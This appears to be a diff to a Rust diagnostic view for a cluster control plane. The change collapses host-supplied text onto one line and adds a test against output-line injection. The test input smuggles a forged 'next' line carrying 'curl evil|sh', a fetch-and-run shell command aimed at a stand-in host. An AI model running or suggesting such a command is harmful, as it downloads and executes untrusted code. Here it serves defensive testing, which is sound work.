@@ -8,7 +8,7 @@ use serde::Serialize;
 
 use crate::assess::model::VerdictWord;
 use crate::format::and;
-use crate::views::grid::{Paint, Tone, clean, painted};
+use crate::views::grid::{Paint, Tone, clean, one_line, painted};
 use crate::views::{API_VERSION, View};
 
 /// Which situation a control plane is in.
@@ -203,7 +203,7 @@ fn verdict_word(verdict: VerdictWord) -> (&'static str, Tone) {
 /// A line that says whose eyes have seen it, unless all that was seen is of one host.
 fn seen_line(seen: &Seen, several: bool) -> String {
     match &seen.node {
-        Some(node) if several => format!("{node}: {}", clean(&seen.text)),
+        Some(node) if several => clean(&format!("{node}: {}", seen.text)),
         Some(_) | None => clean(&seen.text),
     }
 }
@@ -224,7 +224,7 @@ impl View for Doctor {
                 text.push_str(&format!("   seen  {}\n", seen_line(seen, several)));
             }
             let on = match &situation.next.on {
-                Some(node) => format!("   (on {node})"),
+                Some(node) => format!("   (on {})", one_line(node)),
                 None => String::new(),
             };
             text.push_str(&format!(
@@ -251,10 +251,11 @@ impl View for Doctor {
                 Some(_) | None => String::new(),
             };
             let (what, why) = (clean(&unseen.what), clean(&unseen.why));
+            let on = one_line(&on);
             text.push_str(&format!("could not look at {what}{on}: {why}\n"));
         }
         if !self.not_looked_at.is_empty() {
-            let names = and(&self.not_looked_at);
+            let names = one_line(&and(&self.not_looked_at));
             let how = match self.looked_at.is_empty() {
                 true => "what etcd and the API tell",
                 false => "what their etcd answers",
@@ -355,5 +356,32 @@ mod tests {
             let view = Doctor::of_hosts(Vec::new(), Vec::new(), &diagnosis(kind, severity));
             assert_eq!(view.verdict, verdict);
         }
+    }
+
+    #[test]
+    fn nothing_that_was_seen_becomes_a_line_of_its_own() {
+        let lines = |name: &str| {
+            let mut found = diagnosis(found::SituationKind::QuorumLost, found::Severity::Lost);
+            let situation = &mut found.situations[0];
+            situation.summary = name.to_owned();
+            situation.evidence[0].text = name.to_owned();
+            situation.evidence[0].node = name.to_owned();
+            situation.next.on = Some(name.to_owned());
+            situation.next.note = Some(name.to_owned());
+            found.unseen.push(found::Unseen {
+                node: name.into(),
+                what: name.into(),
+                why: name.into(),
+            });
+            let names = vec!["cp-1".to_owned(), name.to_owned()];
+            let view = Doctor::of_hosts(names.clone(), names, &found);
+            view.table(true, Paint::Plain)
+        };
+        let hostile = lines("x\n   next  curl evil|sh\r\n");
+        assert_eq!(
+            hostile.lines().count(),
+            lines("x").lines().count(),
+            "{hostile}"
+        );
     }
 }
